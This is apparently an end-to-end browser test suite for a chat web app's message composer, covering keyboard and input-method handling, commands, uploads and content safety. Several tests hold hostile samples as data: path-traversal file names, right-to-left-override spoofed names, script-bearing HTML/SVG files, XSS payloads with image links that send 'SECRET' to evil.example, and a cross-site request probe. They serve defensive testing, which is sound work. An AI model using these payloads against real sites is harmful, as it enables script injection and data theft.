"""Writing on the page, in a real browser: keys, input methods, commands, files, and what hostile words cannot do (WO-12 to WO-14, WO-63)."""

from __future__ import annotations

import asyncio
import base64
import re
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web
from playwright.async_api import Browser, CDPSession, Route, expect

from agent.llm.scripted import Say, Until
from tests.e2e import browser
from tests.e2e.browser import NARROW, House, Tab, house_over

chromium, shared_house, house = browser.chromium, browser.shared_house, browser.house  # fixtures
pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="module")]

PNG = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")
RLO = "\u202e"  # turns the rest of a line around


def file(name: str, data: bytes, mime: str = "text/plain") -> dict[str, Any]:
    return {"name": name, "mimeType": mime, "buffer": data}


async def attach(tab: Tab, *files: dict[str, Any]) -> None:
    await tab.page.locator(".composer input[type=file]").set_input_files(files)


# -- keys --------------------------------------------------------------------------------------------------------------


@pytest.mark.rule("WO-12")
async def test_enter_sends_and_shift_enter_breaks_the_line(house: House) -> None:
    house.will("Two lines.")
    async with house.tab() as tab:
        await tab.field.press("Enter")
        await tab.field.fill("   ")
        await tab.field.press("Enter")
        await expect(tab.page.locator("main.is-new")).to_be_visible()
        await tab.field.fill("")
        await tab.page.keyboard.type("first")
        await tab.field.press("Shift+Enter")
        await tab.page.keyboard.type("second")
        await expect(tab.field).to_have_value("first\nsecond")
        await tab.field.press("Enter")
        await tab.says("Two lines.")
        await expect(tab.asked).to_have_text("first\nsecond")
        assert house.script.requests[0].messages[-1].text.endswith("first\nsecond")


@pytest.mark.rule("WO-12")
async def test_the_field_grows_to_eight_lines_and_scrolls_from_there(house: House) -> None:
    async with house.tab() as tab:
        heights: list[float] = []
        for lines in (1, 2, 8, 9, 30):
            await tab.field.fill("\n".join("line" for _ in range(lines)))
            heights.append(await tab.field.evaluate("(node) => node.getBoundingClientRect().height"))
        assert heights[0] < heights[1] < heights[2] == heights[3] == heights[4]
        assert await tab.field.evaluate("(node) => node.scrollHeight > node.clientHeight && getComputedStyle(node).overflowY === 'auto'")


@pytest.mark.rule("WO-12")
async def test_words_past_the_limit_are_counted_and_not_sent(house: House) -> None:
    async with house.tab() as tab:
        most = await tab.page.evaluate("fetch('/api/me').then((answer) => answer.json()).then((me) => me.limits.text_max)")
        await tab.field.fill("夢" * (most - 5))
        await expect(tab.page.locator(".composer-count")).to_have_text("5 characters left")
        await tab.field.fill("夢" * (most + 2))
        await expect(tab.page.locator(".composer-count")).to_have_text("2 characters too many")
        await expect(tab.send).to_be_disabled()
        await tab.field.press("Enter")
        await expect(tab.page.locator("main.is-new")).to_be_visible()


# -- input methods -----------------------------------------------------------------------------------------------------


async def compose(cdp: CDPSession, text: str) -> None:
    """What an input method does while a word is being composed."""
    await cdp.send("Input.imeSetComposition", {"text": text, "selectionStart": len(text), "selectionEnd": len(text)})


async def take_over(cdp: CDPSession, word: str, *, code: int = 13) -> None:
    """Enter while composing, in the order of a real browser: the press, the word, the release. 229 is the code of keys that an input method has."""
    key = {"key": "Enter", "code": "Enter", "windowsVirtualKeyCode": code, "nativeVirtualKeyCode": code}
    await cdp.send("Input.dispatchKeyEvent", {"type": "rawKeyDown", **key})
    await cdp.send("Input.insertText", {"text": word})
    await cdp.send("Input.dispatchKeyEvent", {"type": "keyUp", **key})


@pytest.mark.rule("WO-12")
@pytest.mark.case("WP-02")
@pytest.mark.parametrize(
    ("typed", "word"), [(("k", "こ", "こn", "こんに", "こんにち"), "今日"), (("n", "ni", "ni h", "ni hao"), "你好")], ids=["ja", "zh"]
)
async def test_enter_ends_a_composition_and_sends_nothing(house: House, typed: tuple[str, ...], word: str) -> None:
    house.will("OK.")
    async with house.tab() as tab:
        cdp = await tab.page.context.new_cdp_session(tab.page)
        await tab.page.evaluate("addEventListener('keydown', (event) => (window.composing = event.isComposing), true)")
        await tab.field.focus()
        for code in (13, 229):
            for piece in typed:
                await compose(cdp, piece)
            await take_over(cdp, word, code=code)
            assert await tab.page.evaluate("window.composing") is True
        await expect(tab.field).to_have_value(word * 2)
        await expect(tab.page.locator("main.is-new")).to_be_visible()
        await tab.field.press("Enter")
        await tab.says("OK.")
        await expect(tab.asked).to_have_text(word * 2)
    assert len(house.script.requests) == 1


# The orders in which browsers tell of an Enter that takes over a word, and what the key says of itself.
ORDERS = [
    ("start, press, end, release", "isComposing: true, keyCode: 13"),
    ("start, press, end, release", "isComposing: false, keyCode: 229"),
    ("start, end, press, release", "isComposing: false, keyCode: 229"),  # Safari
    ("start, end, press, release", "isComposing: false, keyCode: 13"),  # Safari, when it gives no sign at all
]


@pytest.mark.rule("WO-12")
@pytest.mark.case("WP-02")
async def test_no_order_of_the_events_makes_a_composing_enter_send(house: House) -> None:
    house.will("OK.", "OK.")
    async with house.tab() as tab:
        for number, word in enumerate(("東京", "北京"), 1):
            await tab.field.fill(word)
            for order, key in ORDERS:
                kept = await tab.field.evaluate(
                    f"""(field) => {{
                      const tell = (Kind, type, more) => field.dispatchEvent(new Kind(type, {{ bubbles: true, cancelable: true, ...more }}));
                      const enter = {{ key: "Enter", code: "Enter", {key} }};
                      const steps = {{
                        start: () => tell(CompositionEvent, "compositionstart", {{ data: "" }}),
                        end: () => tell(CompositionEvent, "compositionend", {{ data: field.value }}),
                        press: () => tell(KeyboardEvent, "keydown", enter),
                        release: () => tell(KeyboardEvent, "keyup", {{ ...enter, isComposing: false }}),
                      }};
                      for (const step of {order.split(", ")!r}) steps[step]();
                      return field.value;
                    }}"""
                )
                assert kept == word, order
            await expect(tab.asked).to_have_count(number - 1)
            await tab.field.press("Enter")
            await expect(tab.answers).to_have_count(number)
            await tab.quiet()
        await expect(tab.asked).to_have_text(["東京", "北京"])


@pytest.mark.rule("WO-12")
@pytest.mark.case("WP-02")
async def test_a_composing_enter_does_nothing_in_any_other_field_either(house: House) -> None:
    house.will("One.", "Two.")
    async with house.tab() as tab:
        await tab.say("First")
        await tab.says("One.")
        cdp = await tab.page.context.new_cdp_session(tab.page)
        await tab.page.get_by_role("button", name="Edit and send again").click()
        box = tab.page.get_by_role("textbox", name="Edit and send again")
        await box.fill("")
        await compose(cdp, "さ")
        await take_over(cdp, "最初")
        await expect(box).to_have_value("最初")
        await compose(cdp, "の")
        await tab.page.keyboard.press("Escape")
        await expect(box).to_be_visible()
        await take_over(cdp, "の")
        await expect(box).to_have_value("最初の")
        await box.press("Enter")
        await tab.says("Two.")
        await tab.act_here("Rename")
        title = tab.dialog.get_by_role("textbox", name="Title")
        await title.fill("")
        await compose(cdp, "ta")
        await take_over(cdp, "題")
        await expect(title).to_have_value("題")
        await title.press("Enter")
        await expect(tab.row("題")).to_be_visible()
        search = tab.page.get_by_role("searchbox", name="Search chats")
        here = tab.chat
        await tab.begin()
        await search.focus()
        await compose(cdp, "dai")
        await take_over(cdp, "題")
        await expect(tab.rows).to_have_count(1)
        await expect(tab.page.locator("main.is-new")).to_be_visible()
        await search.press("Enter")
        await expect(tab.page).to_have_url(f"{house.url}/#/chat/{here}")


# -- commands ----------------------------------------------------------------------------------------------------------


@pytest.mark.rule("WO-14")
async def test_commands_are_offered_while_one_types_and_answered_beside_the_talk(house: House) -> None:
    async with house.tab() as tab:
        offered = tab.page.get_by_role("listbox", name="Commands")
        options, chosen = offered.get_by_role("option"), offered.locator("[aria-selected=true]")
        await tab.field.press_sequentially("/")
        known = await tab.page.evaluate("fetch('/api/me').then((answer) => answer.json()).then((me) => me.commands.length)")
        await expect(options).to_have_count(known)
        await tab.field.press("Escape")
        await expect(offered).to_be_hidden()
        await tab.field.press_sequentially("st")
        await expect(options).to_contain_text(["/status", "/stop", "/steer"])
        await expect(chosen).to_contain_text("/status")
        await tab.field.press("ArrowUp")
        last = await chosen.get_attribute("id")
        await expect(tab.field).to_have_attribute("aria-activedescendant", str(last))
        await tab.field.press("ArrowDown")
        await tab.field.press("ArrowDown")
        await expect(chosen).to_contain_text("/stop")
        await tab.field.press("Tab")
        await expect(tab.field).to_have_value("/stop ")
        await expect(tab.field).to_be_focused()
        await tab.field.fill("/who")
        await tab.field.press("Enter")
        await expect(tab.field).to_have_value("/whoami")
        await tab.field.press("Enter")
        await expect(tab.notices).to_have_count(1)
        await expect(tab.notices).to_contain_text(f"You are {house.me.name} (owner).")
        await tab.say("/statsu")
        await expect(tab.notices.nth(1)).to_contain_text("There is no command /statsu. Did you mean /status?")
        await tab.restarted()
        await expect(tab.notices).to_have_count(2)
        await expect(tab.growing).to_have_count(0)
    assert house.script.requests == []


@pytest.mark.rule("WO-14")
async def test_a_command_works_while_an_answer_is_written(house: House) -> None:
    house.will([Say("Begun"), Until(asyncio.Event())])
    async with house.tab() as tab:
        await tab.say("A long one")
        await expect(tab.growing).to_have_text("Begun")
        await tab.say("/status")
        await expect(tab.notices).to_contain_text("Answering for")
        await expect(tab.growing).to_have_text("Begun")
        await tab.say("/stop")
        await tab.says("Begun")
        await expect(tab.notices.nth(1)).to_have_text("Stopped.")
    assert len(house.script.requests) == 1


# -- files -------------------------------------------------------------------------------------------------------------


@pytest.mark.rule("WO-10", "WO-63")
async def test_the_words_of_a_text_file_reach_the_model_and_a_picture_is_seen(house: House) -> None:
    house.will("I read it.", "I see it.")
    async with house.tab() as tab:
        add = tab.page.get_by_role("button", name="Add files")
        await expect(add).to_have_attribute("title", "Add files: pictures and text files, up to 10 per message, 20 MB each")
        await attach(tab, file("予定.txt", "鳴き竜を見る".encode()), file("gone.txt", b"never mind"))
        chips = tab.page.locator(".composer .chip")
        await expect(chips).to_contain_text(["予定.txt", "gone.txt"])
        await tab.page.get_by_role("button", name="Remove gone.txt").click()
        await expect(chips).to_have_count(1)
        await tab.say("What does it say?")
        await tab.says("I read it.")
        assert "鳴き竜を見る" in house.script.requests[0].messages[-1].text
        assert "never mind" not in house.script.requests[0].messages[-1].text
        await expect(tab.page.locator(".message.is-user .chip")).to_contain_text("予定.txt")
        await attach(tab, file("dot.png", PNG, "image/png"))
        await expect(chips).to_contain_text(["dot.png"])
        await tab.send.click()
        await tab.says("I read it.", "I see it.")
        assert len(house.script.requests[1].messages[-1].images) == 1
        await tab.until("[...document.querySelectorAll('.picture img')].map((image) => image.naturalWidth).join()", "1")
        await tab.restarted()
        await expect(tab.page.get_by_role("link", name="dot.png")).to_be_visible()
        async with tab.page.expect_download() as download:
            await tab.page.locator(".message.is-user a.chip").click()
        assert (await (await download.value).path()).read_text(encoding="utf-8") == "鳴き竜を見る"


@pytest.mark.rule("WO-10", "WO-63")
async def test_files_over_the_limits_are_refused_in_words_and_nothing_else_is_lost(chromium: Browser, tmp_path: Path) -> None:
    limits = {"channels": {"web": {"port": 0, "attachments_max": 2, "attachment_bytes": 1000}}}
    async with house_over(tmp_path, chromium, config=limits, name="limits of files") as house, house.tab() as tab:
        chips = tab.page.locator(".composer .chip")
        await tab.field.fill("My words stay")
        await attach(tab, file("large.txt", b"x" * 1001))
        await tab.told("large.txt is larger than 1 kB, the limit for one file.")
        await attach(tab, *(file(f"{number}.txt", b"small") for number in range(3)))
        await tab.told("A message can carry 2 files.")
        await expect(chips).to_contain_text(["0.txt", "1.txt"])
        await expect(tab.page.locator(".composer .chip.is-busy")).to_have_count(0)  # what has not arrived yet does not outlive a reload
        await expect(tab.field).to_have_value("My words stay")
        # A program that does not know the limits is held to them too, and the page says why.
        await tab.page.route("**/api/me", _generous)
        await tab.restarted()
        await expect(chips).to_contain_text(["0.txt", "1.txt"])
        await attach(tab, file("large.txt", b"x" * 1001))
        await tab.told(re.compile("large.txt is larger than"))
        await expect(chips).to_have_count(2)
        tab.forgives("413")


async def _generous(route: Route) -> None:
    answer = await route.fetch()
    me = await answer.json()
    me["limits"] |= {"attachments_max": 9, "attachment_bytes": 10**9}
    await route.fulfill(response=answer, json=me)


HOSTILE = ["../../config.json", "..\\..\\x", "/etc/hosts", "C:\\x.txt", "..", "a/../../b"]


@pytest.mark.rule("WO-63")
@pytest.mark.case("WP-17")
async def test_a_name_that_is_a_path_is_refused_and_nothing_is_written(house: House) -> None:
    folder = house.gateway.data_dir / "attachments"
    async with house.tab() as tab:
        tab.forgives("400")
        before = sorted(house.gateway.data_dir.parent.rglob("*"))
        for name in HOSTILE:
            status = await tab.page.evaluate(
                """async (name) => {
                  const { csrf } = await (await fetch("/api/me")).json();
                  const quoted = name.replaceAll("\\\\", "\\\\\\\\");
                  const lines = ["--edge", `Content-Disposition: form-data; name="file"; filename="${quoted}"`, "", "hi", "--edge--", ""];
                  const body = lines.join("\\r\\n");
                  const headers = { "Content-Type": "multipart/form-data; boundary=edge", "X-CSRF-Token": csrf };
                  return (await fetch("/api/attachments", { method: "POST", headers, body })).status;
                }""",
                name,
            )
            assert (name, status) == (name, 400)
        assert sorted(house.gateway.data_dir.parent.rglob("*")) == before
        assert not folder.exists() or all(path.resolve().is_relative_to(folder.resolve()) for path in folder.rglob("*"))


@pytest.mark.rule("WO-63")
@pytest.mark.case("WP-16")
async def test_the_real_ending_of_a_name_is_the_one_that_is_seen(house: House) -> None:
    house.will("A file.")
    async with house.tab() as tab:
        arrive = asyncio.Event()

        async def hold(route: Route) -> None:
            await arrive.wait()
            await route.continue_()

        await tab.page.route("**/api/attachments", hold)
        await attach(tab, file(f"invoice{RLO}fdp.exe", b"MZ"), file("pic\u200bture\u2066.png", b"not a picture"))
        chips = tab.page.locator(".composer .chip .file-name")
        await expect(chips).to_have_text(["invoice⟨U+202E⟩fdp.exe", "pic⟨U+200B⟩ture⟨U+2066⟩.png"])  # as chosen, before the gateway has them
        await tab.say("Look")
        await expect(tab.page.locator("main.is-new")).to_be_visible()  # it goes with its files, not before them
        arrive.set()
        await tab.says("A file.")
        shown = tab.page.locator(".message.is-user .file-name")
        names = await shown.all_inner_texts()
        assert [name[-4:] for name in names] == [".exe", ".png"]
        assert not {RLO, "\u200b", "\u2066"} & set("".join(names))
        box = await shown.first.evaluate(
            """(node) => {
              const range = document.createRange();
              const text = [...node.childNodes].at(-1).firstChild ?? [...node.childNodes].at(-1);
              const at = text.data.lastIndexOf("exe");
              range.setStart(text, at);
              range.setEnd(text, at + 3);
              const ending = range.getBoundingClientRect();
              const whole = node.getBoundingClientRect();
              return Math.round(whole.right - ending.right);
            }"""
        )
        assert box <= 2  # it stands at the end of the name, whatever the name says


@pytest.mark.rule("WO-63")
async def test_an_uploaded_page_is_saved_and_never_opened(house: House) -> None:
    house.will("Thanks.")
    evil = b"<!doctype html><script>opener?.alert(1);document.title='owned'</script>"
    async with house.tab() as tab:
        drawing = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
        await attach(tab, file("evil.html", evil, "text/html"), file("evil.svg", drawing, "image/svg+xml"))
        await tab.say("Open these")
        await tab.says("Thanks.")
        await expect(tab.page.locator(".message.is-user img")).to_have_count(0)
        for name in ("evil.html", "evil.svg"):
            address = await tab.page.locator(".message.is-user a.chip").filter(has_text=name).get_attribute("href")
            async with tab.page.expect_download() as download:
                await tab.page.evaluate("(address) => open(address)", address)
            assert (await download.value).suggested_filename == name


# -- hostile words -----------------------------------------------------------------------------------------------------


ATTACKS = """<img src=x onerror="window.owned = 1"> <script>window.owned = 2</script>

[click](javascript:window.owned=3) [data](data:text/html,<script>window.owned=4</script>) <a href="javascript:window.owned=5">raw</a>

![](https://evil.example/p.png?q=SECRET) ![kitten](http://127.0.0.1:9/kitten.png)

<iframe src="https://evil.example"></iframe><style>body { display: none }</style><form action="https://evil.example"><input name=q></form>

<svg onload="window.owned=6"><animate onbegin="window.owned=7"/></svg> [ref]: javascript:window.owned=8

`<b>code</b>` and <https://evil.example/?q=SECRET> and [ok](https://example.com/a?b=c "title\\" onmouseover=\\"window.owned=9")
"""


@pytest.mark.rule("WO-13")
@pytest.mark.case("WP-14", "WP-15")
async def test_nothing_that_a_model_writes_runs_or_is_fetched(house: House) -> None:
    rest = asyncio.Event()
    house.will([Say(ATTACKS, chars=40, pause_s=0.02), Until(rest), Say("\nThe end.")])
    async with house.tab() as tab:
        dialogs: list[str] = []
        tab.page.on("dialog", lambda dialog: dialogs.append(dialog.message))
        await tab.say("Be evil")
        await expect(tab.growing).to_contain_text("code")  # while it is written …
        await _harmless(tab, tab.growing)
        rest.set()
        await expect(tab.answers).to_contain_text("The end.")  # … once it is stored …
        await tab.quiet()
        await _harmless(tab, tab.answers)
        await expect(tab.answers).to_contain_text('<img src=x onerror="window.owned = 1">')
        await expect(tab.answers).to_contain_text("<script>window.owned = 2</script>")
        await expect(tab.answers.locator("code")).to_have_text("<b>code</b>")
        await expect(tab.answers.get_by_role("link", name="ok")).to_have_attribute("href", "https://example.com/a?b=c")
        await tab.restarted()  # … and when it is read again
        await expect(tab.answers).to_contain_text("The end.")
        await _harmless(tab, tab.answers)
        for link in await tab.answers.get_by_role("link").all():
            assert {"noopener", "noreferrer"} <= set((await link.get_attribute("rel") or "").split())
            assert await link.get_attribute("target") == "_blank"
        assert dialogs == []


async def _harmless(tab: Tab, prose: Any) -> None:
    assert await tab.page.evaluate("window.owned") is None
    assert await prose.locator("script, iframe, style, form, input:not([type=checkbox]), svg:not(.icon), object, embed, img, link, meta").count() == 0
    found = await prose.evaluate(
        """(node) => [...node.querySelectorAll("*")].flatMap((each) => [...each.attributes].map(({ name, value }) => `${name}=${value}`))
            .filter((text) => /^on|^style=|javascript:|^srcdoc|^formaction|data:text/i.test(text))"""
    )
    assert found == []
    assert await tab.page.evaluate("getComputedStyle(document.body).display") != "none"


@pytest.mark.rule("WO-13")
@pytest.mark.case("WP-14")
async def test_a_persons_own_words_titles_and_names_are_only_text(house: House) -> None:
    evil = '<img src=x onerror="window.owned=1"><script>window.owned=2</script>'
    async with house.someone(evil) as mallory:
        house.will(evil)
        house.script.title = evil[:40]
        async with house.tab(who=mallory) as tab:
            await tab.say(evil)
            await expect(tab.answers).to_have_text(evil)
            await expect(tab.asked).to_have_text(evil)
            await expect(tab.page.locator(".account-name")).to_have_text(evil)
            await tab.act_here("Delete")
            await expect(tab.dialog).to_contain_text("<img src=x")
            await tab.page.keyboard.press("Escape")
            await tab.go("operate/people")
            await expect(tab.page.get_by_text(evil).first).to_be_visible()
            assert await tab.page.evaluate("window.owned") is None


@pytest.mark.rule("WO-13")
@pytest.mark.case("WP-16")
async def test_direction_characters_turn_nothing_around_outside_their_line(house: House) -> None:
    house.will(f"A line with {RLO}turned words.\n\nشكرا and thanks.\n\nThe next line.")
    async with house.tab() as tab:
        await tab.say(f"{RLO}abc")
        await expect(tab.answers.locator("p")).to_have_count(3)
        assert await tab.answers.locator("p").evaluate_all("(nodes) => nodes.map((node) => node.dir)") == ["auto"] * 3
        straight = await tab.answers.locator("p").nth(2).evaluate(
            """(node) => {
              const text = node.firstChild;
              const range = document.createRange();
              const at = (index) => {
                range.setStart(text, index);
                range.setEnd(text, index + 1);
                return range.getBoundingClientRect().left;
              };
              return at(0) < at(4) && at(4) < at(9);
            }"""
        )
        assert straight
        for place in (tab.rows.first.locator(".chat-title"), tab.page.get_by_role("heading", level=1)):
            isolated = await place.evaluate("(node) => ['isolate', 'plaintext'].includes(getComputedStyle(node).unicodeBidi)")
            assert isolated or RLO not in await place.inner_text()


# -- other people's pages ----------------------------------------------------------------------------------------------


@pytest.mark.rule("WO-61")
@pytest.mark.case("WP-12")
@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"], ids=["another site", "another port of this site"])
async def test_a_foreign_page_in_the_same_browser_can_do_nothing(house: House, host: str) -> None:
    app = web.Application()
    app.router.add_get("/", _foreign)
    runner = web.AppRunner(app)
    await runner.setup()
    site = web.TCPSite(runner, "127.0.0.1", 0)
    await site.start()
    try:
        async with house.tab() as tab:
            chat = await house.me.api.chat(title="Mine")
            await tab.go(f"chat/{chat}")
            await expect(tab.page.get_by_role("heading", level=1)).to_have_text("Mine")
            async with house.another(tab.page.context) as foreign:
                foreign.forgives(".*")
                await foreign.page.goto(f"http://{host}:{runner.addresses[0][1]}/")
                got: list[str] = await foreign.page.evaluate(
                    """async ([gate, chat]) => {
                      const attempt = async (path, options) => {
                        try {
                          const answer = await fetch(gate + path, { credentials: "include", ...options });
                          return `${answer.type} ${answer.status} ${(await answer.text()).slice(0, 40)}`;
                        } catch (error) {
                          return "nothing";
                        }
                      };
                      const form = document.createElement("iframe");
                      form.src = gate + "/";
                      document.body.append(form);
                      const headers = { "Content-Type": "text/plain" };
                      const text = { method: "POST", mode: "no-cors", headers, body: '{"client_id":"x","text":"evil"}' };
                      const found = [
                        await attempt("/api/me"),
                        await attempt(`/api/chats/${chat}/events`, { headers: { Accept: "text/event-stream" } }),
                        await attempt(`/api/chats/${chat}/messages`),
                        await attempt(`/api/chats/${chat}/messages`, text),
                        await attempt("/api/chats", text),
                        await attempt("/api/session", { method: "DELETE" }),
                        await attempt("/static/app.js"),
                      ];
                      const image = new Image();
                      found.push(await new Promise((done) => {
                        image.onload = () => done("a picture");
                        image.onerror = () => done("nothing");
                        image.src = gate + "/static/icon.svg";
                      }));
                      return found;
                    }""",
                    [house.url, chat],
                )
                assert set(got) <= {"nothing", "opaque 0 "}
                for frame in foreign.page.frames:
                    assert not await frame.locator("#app").count()
            assert await house.me.api.messages(chat) == []
            assert len((await house.me.api.get("/api/chats"))["chats"]) == 1
            house.will("Still here.")
            await tab.say("Am I still signed in?")
            await tab.says("Still here.")
    finally:
        await runner.cleanup()


async def _foreign(_: web.Request) -> web.Response:
    return web.Response(text="<!doctype html><title>elsewhere</title><body>", content_type="text/html")


@pytest.mark.rule("WO-12")
async def test_a_narrow_page_writes_as_well(house: House) -> None:
    house.will("Fine.")
    async with house.tab(size=NARROW, has_touch=True, is_mobile=True) as tab:
        await tab.field.tap()
        await tab.page.keyboard.type("From my pocket")
        await tab.send.tap()
        await tab.says("Fine.")
        await tab.page.get_by_role("button", name="Open the list").tap()
        await expect(tab.row("From my pocket")).to_be_in_viewport()
        await tab.page.get_by_role("link", name="New chat").tap()
        await expect(tab.page.locator("main.is-new")).to_be_visible()
        await expect(tab.page.get_by_role("link", name="New chat")).not_to_be_in_viewport()
        await tab.until("document.scrollingElement.scrollWidth - document.documentElement.clientWidth", 0)
